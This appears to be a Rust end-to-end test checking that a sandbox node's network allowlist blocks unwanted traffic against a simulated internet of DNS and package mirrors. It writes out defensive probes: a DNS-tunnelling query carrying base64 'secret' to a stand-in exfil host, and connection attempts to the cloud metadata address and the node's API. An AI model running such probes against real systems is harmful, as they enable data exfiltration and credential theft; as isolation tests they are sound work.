//! Network modes end to end, against a fake internet the test builds: a network namespace
//! reached through a veth link, holding a DNS server (the node's upstream) and two
//! "package mirrors", `pypi.org` and `registry.npmjs.org`. Checks the allowlist example
//! "PyPI allowed, npm blocked" through DNS names, DNS tunnelling, direct connections to
//! blocked addresses, the node itself and other sandboxes, replacing rules on a running
//! sandbox, mode `open`, a restart of the node, and that nothing is left behind; and the
//! same policies for a microVM, whose link is a tap.

use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, UdpSocket};
use std::os::fd::AsFd;
use std::process::Command;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

use dsec_e2e::{host, require_root, sh, Server};
use dsec_wire::v1::*;
use dsec_wire::ErrorCode;
use hickory_proto::op::{Message, MessageType, ResponseCode};
use hickory_proto::rr::{rdata::A, RData, Record};

const INET_NS: &str = "dsec-e2e-inet";
const INET_LINK: &str = "dsei0";
const HOST_ADDR: &str = "198.18.0.1";
const DNS_ADDR: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 2);
const PYPI: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 10);
const NPM: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 20);

fn run(cmd: &str) {
    let out = Command::new("sh").arg("-c").arg(cmd).output().expect("sh");
    assert!(
        out.status.success(),
        "{cmd}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The fake internet: built once per test binary. Returns the names its DNS server was
/// asked for.
fn internet() -> Arc<Mutex<Vec<String>>> {
    static NET: OnceLock<Arc<Mutex<Vec<String>>>> = OnceLock::new();
    NET.get_or_init(|| {
        let _ = Command::new("ip").args(["netns", "del", INET_NS]).status();
        let _ = Command::new("ip").args(["link", "del", INET_LINK]).status();
        run(&format!("ip netns add {INET_NS}"));
        run(&format!(
            "ip link add {INET_LINK} type veth peer name eth0 netns {INET_NS}"
        ));
        run(&format!("ip addr add {HOST_ADDR}/24 dev {INET_LINK}"));
        run(&format!("ip link set {INET_LINK} up"));
        for a in [DNS_ADDR, PYPI, NPM] {
            run(&format!("ip -n {INET_NS} addr add {a}/24 dev eth0"));
        }
        run(&format!("ip -n {INET_NS} link set eth0 up"));
        run(&format!("ip -n {INET_NS} link set lo up"));

        let queries = Arc::new(Mutex::new(Vec::new()));
        let (tx, rx) = std::sync::mpsc::channel();
        let q = queries.clone();
        std::thread::spawn(move || {
            let ns = std::fs::File::open(format!("/run/netns/{INET_NS}")).expect("netns");
            nix::sched::setns(ns.as_fd(), nix::sched::CloneFlags::CLONE_NEWNET).expect("setns");
            let dns = UdpSocket::bind((DNS_ADDR, 53)).expect("bind dns");
            let mirrors = [(PYPI, "pypi"), (NPM, "npm")]
                .map(|(ip, body)| (TcpListener::bind((ip, 80)).expect("bind http"), body));
            tx.send(()).expect("ready");
            for (l, body) in mirrors {
                std::thread::spawn(move || serve_http(l, body));
            }
            serve_dns(dns, q);
        });
        rx.recv().expect("internet up");
        queries
    })
    .clone()
}

fn serve_http(l: TcpListener, body: &'static str) {
    for stream in l.incoming() {
        let Ok(mut s) = stream else { continue };
        let mut buf = [0u8; 1024];
        let _ = s.read(&mut buf);
        let _ = write!(
            s,
            "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
    }
}

fn serve_dns(sock: UdpSocket, queries: Arc<Mutex<Vec<String>>>) {
    let zone: HashMap<&str, Ipv4Addr> =
        HashMap::from([("pypi.org.", PYPI), ("registry.npmjs.org.", NPM)]);
    let mut buf = [0u8; 4096];
    loop {
        let Ok((n, peer)) = sock.recv_from(&mut buf) else {
            continue;
        };
        let Ok(q) = Message::from_vec(&buf[..n]) else {
            continue;
        };
        let mut r = Message::new();
        r.set_id(q.id())
            .set_message_type(MessageType::Response)
            .set_recursion_available(true);
        r.add_queries(q.queries().to_vec());
        for question in q.queries() {
            let name = question.name().to_ascii().to_ascii_lowercase();
            queries.lock().expect("lock").push(name.clone());
            match zone.get(name.as_str()) {
                Some(ip) if question.query_type() == hickory_proto::rr::RecordType::A => {
                    r.add_answer(Record::from_rdata(
                        question.name().clone(),
                        300,
                        RData::A(A(*ip)),
                    ));
                }
                Some(_) => {}
                None => {
                    r.set_response_code(ResponseCode::NXDomain);
                }
            }
        }
        if let Ok(bytes) = r.to_vec() {
            let _ = sock.send_to(&bytes, peer);
        }
    }
}

/// A node whose sandboxes reach the fake internet; each test has its own table,
/// link prefix, subnet and resolver port.
async fn node(name: &str, n: u8) -> Server {
    internet();
    let table = format!("dsec_e2e_{n}");
    let _ = Command::new("nft")
        .args(["delete", "table", "inet", &table])
        .stderr(std::process::Stdio::null())
        .status();
    let s = Server::start_with(
        name,
        true,
        &[
            "--dns-upstream",
            &format!("{DNS_ADDR}:53"),
            "--nft-table",
            &table,
            "--link-prefix",
            &format!("dse{n}x"),
            "--sandbox-subnet",
            &format!("10.{}.0.0/16", 240 + n),
            "--dns-port",
            &format!("{}", 15360 + u16::from(n)),
            "--disk-pool",
            "2",
            "--net-pool",
            "2",
            // The allowlist test restarts its node, which destroys sandboxes under its
            // cgroup parent that it does not know: keep the two tests' apart.
            "--cgroup-parent",
            &format!("dsec-e2e-net{n}"),
        ],
    )
    .await
    .expect("server");
    s.ensure_base(None).await.expect("base image");
    s
}

/// What the probe script prints for each check, as `name=result` lines.
const PROBE: &str = r#"
import socket, sys, time, urllib.request
def check(name, f):
    t = time.time()
    try:
        r = f()
    except Exception as e:
        r = type(e).__name__
    print(f"{name}={r} {time.time() - t:.2f}s")
def fetch(url):
    return urllib.request.urlopen(url, timeout=5).read().decode()
def connect(host, port):
    socket.create_connection((host, port), timeout=5).close()
    return "connected"
def raw_dns(server, name):
    # A hand-made query sent straight to a resolver of our choice.
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00\x00\x01\x00\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, (server, 53))
    return "rcode%d" % (s.recv(512)[3] & 15)
for arg in sys.argv[1:]:
    kind, _, target = arg.partition(":")
    if kind == "resolve":
        check(arg, lambda: socket.gethostbyname(target))
    elif kind == "fetch":
        check(arg, lambda: fetch("http://" + target + "/"))
    elif kind == "connect":
        host, port = target.rsplit(":", 1)
        check(arg, lambda: connect(host, int(port)))
    elif kind == "rawdns":
        server, name = target.split("/")
        check(arg, lambda: raw_dns(server, name))
"#;

/// Runs the probe in a sandbox; returns result and seconds per check.
async fn probe(s: &Server, id: &str, checks: &[String]) -> HashMap<String, (String, f64)> {
    let c = s.client();
    c.write_file(id, "/tmp/probe.py", None, PROBE.as_bytes().to_vec())
        .await
        .expect("write probe");
    let args: Vec<String> = checks.iter().map(|a| format!("'{a}'")).collect();
    let r = c
        .exec(id, sh(&format!("python3 /tmp/probe.py {}", args.join(" "))))
        .await
        .expect("exec probe");
    let out = r.stdout.clone();
    assert_eq!(r.exit.exit_code, Some(0), "probe: {out} {}", r.stderr);
    out.lines()
        .filter_map(|l| {
            let (k, v) = l.split_once('=')?;
            let (res, secs) = v.rsplit_once(' ')?;
            Some((
                k.to_string(),
                (
                    res.to_string(),
                    secs.trim_end_matches('s').parse().unwrap_or(99.0),
                ),
            ))
        })
        .collect()
}

fn expect(results: &HashMap<String, (String, f64)>, check: &str, want: &str) {
    let (got, secs) = results
        .get(check)
        .unwrap_or_else(|| panic!("no result for {check}: {results:?}"));
    assert_eq!(got, want, "{check}");
    if want.ends_with("Error") || want.starts_with("rcode") {
        assert!(*secs < 2.0, "{check} should fail fast, took {secs}s");
    }
}

fn allowlist(rules: &[&str]) -> NetworkPolicy {
    NetworkPolicy {
        mode: NetworkMode::Allowlist,
        allow: rules.iter().map(|r| r.to_string()).collect(),
    }
}

fn links(prefix: &str) -> Vec<String> {
    std::fs::read_dir("/sys/class/net")
        .expect("sysfs")
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(prefix))
        .collect()
}

/// The links named `prefix...` that are taps (a microVM's or a VM's NIC host end).
fn taps(prefix: &str) -> Vec<String> {
    links(prefix)
        .into_iter()
        .filter(|l| std::path::Path::new(&format!("/sys/class/net/{l}/tun_flags")).exists())
        .collect()
}

fn table_exists(table: &str) -> String {
    let out = Command::new("nft")
        .args(["list", "table", "inet", table])
        .output()
        .expect("nft");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn pypi_allowed_npm_blocked_by_name_then_rules_change_and_survive_a_restart() {
    if !require_root() {
        return;
    }
    let queries = internet();
    let mut s = node("network-allowlist", 1).await;
    let c = s.client();
    let sb = c
        .create_sandbox(CreateSandboxRequest {
            network: allowlist(&["pypi.org:80"]),
            ..Default::default()
        })
        .await
        .expect("create");
    assert_eq!(sb.network.mode, NetworkMode::Allowlist);
    let ip: Ipv4Addr = sb.ip.as_deref().expect("ip").parse().expect("ipv4");
    assert_eq!(ip.octets()[..2], [10, 241]);
    let gateway = Ipv4Addr::from(u32::from(ip) - 1);
    let api_port = s.url.rsplit(':').next().expect("port").to_string();
    let checks: Vec<String> = [
        "resolve:pypi.org".to_string(),
        "fetch:pypi.org".into(),
        "resolve:registry.npmjs.org".into(),
        format!("connect:{NPM}:80"),
        format!("connect:{PYPI}:81"),
        // DNS tunnelling, through the configured resolver and straight to the upstream.
        "resolve:c2VjcmV0.exfil.example".into(),
        format!("rawdns:{DNS_ADDR}/c2VjcmV0.direct.example"),
        // The node itself: its API port on the sandbox's gateway and on its other link.
        format!("connect:{gateway}:{api_port}"),
        format!("connect:{HOST_ADDR}:{api_port}"),
    ]
    .to_vec();
    let r = probe(&s, &sb.id, &checks).await;
    expect(&r, "resolve:pypi.org", &PYPI.to_string());
    expect(&r, "fetch:pypi.org", "pypi");
    expect(&r, "resolve:registry.npmjs.org", "gaierror");
    expect(&r, &format!("connect:{NPM}:80"), "ConnectionRefusedError");
    expect(&r, &format!("connect:{PYPI}:81"), "ConnectionRefusedError");
    expect(&r, "resolve:c2VjcmV0.exfil.example", "gaierror");
    expect(
        &r,
        &format!("rawdns:{DNS_ADDR}/c2VjcmV0.direct.example"),
        "rcode3",
    );
    expect(
        &r,
        &format!("connect:{gateway}:{api_port}"),
        "ConnectionRefusedError",
    );
    expect(
        &r,
        &format!("connect:{HOST_ADDR}:{api_port}"),
        "ConnectionRefusedError",
    );
    {
        let seen = queries.lock().expect("lock").clone();
        assert!(seen.iter().any(|q| q == "pypi.org."), "{seen:?}");
        for secret in [
            "registry.npmjs.org.",
            "c2VjcmV0.exfil.example.",
            "c2VjcmV0.direct.example.",
        ] {
            assert!(
                !seen.iter().any(|q| q == secret),
                "{secret} reached upstream: {seen:?}"
            );
        }
    }

    // Replace the rules on the running sandbox: npm now, PyPI no more.
    let updated = c
        .set_network(&sb.id, &allowlist(&["registry.npmjs.org"]))
        .await
        .expect("set network");
    assert_eq!(
        updated.network.allow,
        vec!["registry.npmjs.org".to_string()]
    );
    let swapped = [
        "fetch:registry.npmjs.org".to_string(),
        "resolve:pypi.org".into(),
        format!("connect:{PYPI}:80"),
    ];
    let r = probe(&s, &sb.id, &swapped).await;
    expect(&r, "fetch:registry.npmjs.org", "npm");
    expect(&r, "resolve:pypi.org", "gaierror");
    expect(&r, &format!("connect:{PYPI}:80"), "ConnectionRefusedError");

    // A crash of the node: the sandbox keeps its network and its policy.
    s.kill();
    s.spawn().await.expect("restart");
    let c = s.client();
    let again = c.get_sandbox(&sb.id).await.expect("adopted");
    assert_eq!(again.network.allow, vec!["registry.npmjs.org".to_string()]);
    let r = probe(&s, &sb.id, &swapped).await;
    expect(&r, "fetch:registry.npmjs.org", "npm");
    expect(&r, &format!("connect:{PYPI}:80"), "ConnectionRefusedError");

    // Delete: the slot's chain goes at once, its link with the namespace.
    c.delete_sandbox(&sb.id).await.expect("delete");
    let routed = table_exists("dsec_e2e_1");
    assert!(
        !routed.contains("\"dse1x0\""),
        "slot 0 still routed:\n{routed}"
    );
    dsec_e2e::wait_until(Duration::from_secs(10), || async {
        (!links("dse1x").contains(&"dse1x0".to_string())).then_some(())
    })
    .await
    .unwrap_or_else(|| panic!("link left: {:?}", links("dse1x")));
    drop(s);
    let _ = Command::new("nft")
        .args(["delete", "table", "inet", "dsec_e2e_1"])
        .status();
    // The pool's namespaces died with the server; their links with them.
    dsec_e2e::wait_until(Duration::from_secs(10), || async {
        links("dse1x").is_empty().then_some(())
    })
    .await
    .unwrap_or_else(|| panic!("links left: {:?}", links("dse1x")));
}

#[tokio::test(flavor = "multi_thread")]
async fn open_reaches_out_but_not_other_sandboxes_and_none_has_no_link() {
    if !require_root() {
        return;
    }
    internet();
    let s = node("network-open", 2).await;
    let c = s.client();
    let open = c
        .create_sandbox(CreateSandboxRequest {
            network: NetworkPolicy {
                mode: NetworkMode::Open,
                allow: vec![],
            },
            ..Default::default()
        })
        .await
        .expect("create open");
    let neighbour = c
        .create_sandbox(CreateSandboxRequest {
            network: allowlist(&[]),
            ..Default::default()
        })
        .await
        .expect("create neighbour");
    let none = c
        .create_sandbox(CreateSandboxRequest::default())
        .await
        .expect("create none");
    assert!(none.ip.is_none());
    let n_ip = neighbour.ip.clone().expect("neighbour ip");
    let r = probe(
        &s,
        &open.id,
        &[
            "fetch:pypi.org".into(),
            // By address: the other test asserts no query for npm's name reaches upstream.
            format!("fetch:{NPM}"),
            format!("connect:{n_ip}:22"),
            "connect:169.254.169.254:80".into(),
        ],
    )
    .await;
    expect(&r, "fetch:pypi.org", "pypi");
    expect(&r, &format!("fetch:{NPM}"), "npm");
    expect(&r, &format!("connect:{n_ip}:22"), "ConnectionRefusedError");
    expect(&r, "connect:169.254.169.254:80", "ConnectionRefusedError");

    // An empty allowlist: nothing resolves, nothing connects.
    let r = probe(
        &s,
        &neighbour.id,
        &["resolve:pypi.org".into(), format!("connect:{PYPI}:80")],
    )
    .await;
    expect(&r, "resolve:pypi.org", "gaierror");
    expect(&r, &format!("connect:{PYPI}:80"), "ConnectionRefusedError");

    // Mode none: loopback only.
    let ifaces = c
        .exec(&none.id, sh("cat /proc/net/dev"))
        .await
        .expect("exec");
    let ifaces = ifaces.stdout;
    assert!(
        ifaces.contains("lo:") && !ifaces.contains("eth0"),
        "{ifaces}"
    );
    let err = c
        .set_network(&none.id, &allowlist(&["pypi.org"]))
        .await
        .expect_err("none cannot change");
    assert_eq!(err.code(), Some(ErrorCode::BadRequest));

    // Bad policies are refused before anything is made.
    for bad in [
        NetworkPolicy {
            mode: NetworkMode::Open,
            allow: vec!["pypi.org".into()],
        },
        allowlist(&["pypi.org:0"]),
        allowlist(&["http://pypi.org"]),
        allowlist(&["10.0.0.0/40"]),
    ] {
        let err = c
            .create_sandbox(CreateSandboxRequest {
                network: bad.clone(),
                ..Default::default()
            })
            .await
            .expect_err("bad policy");
        assert_eq!(err.code(), Some(ErrorCode::BadRequest), "{bad:?}");
    }
    // Refused creates leave no record (a failed earlier run may have left failed ones).
    let listed: Vec<Sandbox> = c
        .list_sandboxes(Default::default())
        .await
        .expect("list")
        .sandboxes
        .into_iter()
        .filter(|s| s.state != SandboxState::Failed)
        .collect();
    assert_eq!(
        listed.len(),
        3,
        "{:?}",
        listed
            .iter()
            .map(|s| (&s.id, &s.state, &s.network))
            .collect::<Vec<_>>()
    );
    s.delete_all().await;
    assert!(
        !links("dse2x").is_empty(),
        "the pool keeps prepared links while the node runs"
    );
    // Only the pool's prepared slots stay routed, and the deleted sandboxes' links go
    // with their namespaces.
    let table = table_exists("dsec_e2e_2");
    assert!(
        table.matches(": jump s").count() <= 2,
        "routed after delete_all:\n{table}"
    );
    dsec_e2e::wait_until(Duration::from_secs(10), || async {
        (links("dse2x").len() <= 2).then_some(())
    })
    .await
    .unwrap_or_else(|| panic!("links left: {:?}", links("dse2x")));
    drop(s);
    let _ = Command::new("nft")
        .args(["delete", "table", "inet", "dsec_e2e_2"])
        .status();
}

/// A full machine (isolation `vm`) gets the microVM's tap and rules: the image's own
/// system resolves and connects through the node's allowlist (its tools are bash's, no
/// Python), and the tap goes with the sandbox.
#[tokio::test(flavor = "multi_thread")]
async fn a_vm_gets_the_same_policy_through_a_tap() {
    if !require_root() || !dsec_e2e::have_microvm() {
        return;
    }
    let Some(tar) = dsec_e2e::vm_tar() else {
        return;
    };
    let s = node("network-vm", 4).await;
    let c = s.client();
    let file = tokio::fs::File::open(&tar).await.expect("VM image tar");
    c.upload_image("debian-vm", false, file)
        .await
        .expect("import the VM image");
    let vm = c
        .create_sandbox(CreateSandboxRequest {
            image: Some("debian-vm".into()),
            isolation: Isolation::Vm,
            network: allowlist(&["pypi.org"]),
            ..Default::default()
        })
        .await
        .expect("create a networked vm");
    let ip = vm.ip.clone().expect("the vm's address");
    let taps = taps("dse4x");
    assert_eq!(taps.len(), 1, "one tap: {taps:?}");
    // bash's /dev/tcp: an HTTP GET, or the connect's error.
    let fetch = |host: &str| {
        format!(
            "timeout 10 bash -c 'exec 3<>/dev/tcp/{host}/80 && printf \"GET / HTTP/1.0\\r\\n\\r\\n\" >&3 && tail -n 1 <&3' 2>&1; echo"
        )
    };
    let script = format!(
        "ip=$(cat /proc/net/fib_trie | grep -c ' {ip}$'); echo addr $ip; \
         getent hosts pypi.org | cut -d' ' -f1; getent hosts registry.npmjs.org || echo npm unresolved; \
         {}; {}",
        fetch("pypi.org"),
        fetch(&NPM.to_string())
    );
    let r = c.exec(&vm.id, sh(&script)).await.expect("exec");
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert!(
        lines.len() >= 5 && lines[0] != "addr 0",
        "the NIC has {ip}: {r:?}"
    );
    assert_eq!(lines[1], PYPI.to_string(), "{r:?}");
    assert_eq!(lines[2], "npm unresolved", "{r:?}");
    assert_eq!(lines[3], "pypi", "the allowed site answers: {r:?}");
    assert!(
        lines[4].contains("Connection refused"),
        "the rest is refused: {r:?}"
    );
    c.delete_sandbox(&vm.id).await.expect("delete");
    assert!(
        !links("dse4x").contains(&taps[0]),
        "the tap goes with its sandbox"
    );
    let _ = Command::new("nft")
        .args(["delete", "table", "inet", "dsec_e2e_4"])
        .status();
}

/// A microVM's network is a tap on the host under the same rules as a container's veth:
/// its allowlist, a policy change, a pause (the tap outlives QEMU), a node restart, a
/// delete, and a QEMU killed from outside that leaves no tap once deleted.
#[tokio::test(flavor = "multi_thread")]
async fn a_microvm_gets_the_same_policy_through_a_tap() {
    if !require_root() || !dsec_e2e::have_microvm() {
        return;
    }
    internet();
    let mut s = node("network-microvm", 3).await;
    let c = s.client();
    let vm = c
        .create_sandbox(CreateSandboxRequest {
            isolation: Isolation::Microvm,
            network: allowlist(&["pypi.org"]),
            ..Default::default()
        })
        .await
        .expect("create a networked microVM");
    let ip = vm.ip.clone().expect("the microVM's address");
    let taps = taps("dse3x");
    assert_eq!(taps.len(), 1, "one tap: {taps:?}");
    let tap = taps[0].clone();
    let neighbour = c
        .create_sandbox(CreateSandboxRequest {
            network: allowlist(&[]),
            ..Default::default()
        })
        .await
        .expect("create neighbour");
    let n_ip = neighbour.ip.clone().expect("neighbour ip");

    let r = c
        .exec(&vm.id, sh("cat /proc/net/dev /proc/net/fib_trie"))
        .await
        .expect("exec");
    assert!(
        r.stdout.contains("eth0:") && r.stdout.contains(&ip),
        "the guest's NIC has the sandbox's address {ip}: {}",
        r.stdout
    );
    let r = probe(
        &s,
        &vm.id,
        &[
            "resolve:pypi.org".into(),
            "fetch:pypi.org".into(),
            "resolve:registry.npmjs.org".into(),
            format!("connect:{NPM}:80"),
            format!("connect:{n_ip}:22"),
            "connect:169.254.169.254:80".into(),
        ],
    )
    .await;
    expect(&r, "resolve:pypi.org", &PYPI.to_string());
    expect(&r, "fetch:pypi.org", "pypi");
    expect(&r, "resolve:registry.npmjs.org", "gaierror");
    expect(&r, &format!("connect:{NPM}:80"), "ConnectionRefusedError");
    expect(&r, &format!("connect:{n_ip}:22"), "ConnectionRefusedError");
    expect(&r, "connect:169.254.169.254:80", "ConnectionRefusedError");

    // The policy changes on the running machine.
    c.set_network(
        &vm.id,
        &NetworkPolicy {
            mode: NetworkMode::Open,
            allow: vec![],
        },
    )
    .await
    .expect("open");
    let r = probe(&s, &vm.id, &[format!("fetch:{NPM}")]).await;
    expect(&r, &format!("fetch:{NPM}"), "npm");

    // Paused, the machine is a file and QEMU is gone; its tap and slot stay for the
    // resume, which finds the network as it was.
    c.pause_sandbox(&vm.id).await.expect("pause");
    assert!(host::processes(&vm.id).is_empty(), "QEMU ended at pause");
    assert!(links("dse3x").contains(&tap), "the tap outlives QEMU");
    c.resume_sandbox(&vm.id).await.expect("resume");
    let r = probe(&s, &vm.id, &["fetch:pypi.org".into()]).await;
    expect(&r, "fetch:pypi.org", "pypi");

    // A node killed and started again adopts the machine with its tap and policy.
    s.kill();
    s.spawn().await.expect("restart");
    let c = s.client();
    assert!(links("dse3x").contains(&tap), "the tap survives the node");
    let r = probe(
        &s,
        &vm.id,
        &["fetch:pypi.org".into(), format!("fetch:{NPM}")],
    )
    .await;
    expect(&r, "fetch:pypi.org", "pypi");
    expect(&r, &format!("fetch:{NPM}"), "npm");

    c.delete_sandbox(&vm.id).await.expect("delete");
    assert!(
        !links("dse3x").contains(&tap),
        "the tap goes with its sandbox"
    );
    let table = table_exists("dsec_e2e_3");
    assert!(
        !table.contains(&format!("\"{tap}\"")),
        "the slot left the table:\n{table}"
    );

    // A QEMU killed from outside: the sandbox fails, and its delete leaves no tap.
    let vm = c
        .create_sandbox(CreateSandboxRequest {
            isolation: Isolation::Microvm,
            network: allowlist(&[]),
            ..Default::default()
        })
        .await
        .expect("create a second microVM");
    let before: Vec<String> = links("dse3x");
    for pid in host::processes(&vm.id) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(pid),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
    dsec_e2e::wait_until(Duration::from_secs(30), || async {
        let got = c.get_sandbox(&vm.id).await.ok()?;
        (got.state == SandboxState::Failed).then_some(())
    })
    .await
    .expect("the sandbox fails");
    c.delete_sandbox(&vm.id)
        .await
        .expect("delete the failed one");
    let after = links("dse3x");
    assert!(
        after.len() < before.len(),
        "its tap is gone: before {before:?}, after {after:?}"
    );
    s.delete_all().await;
    drop(s);
}
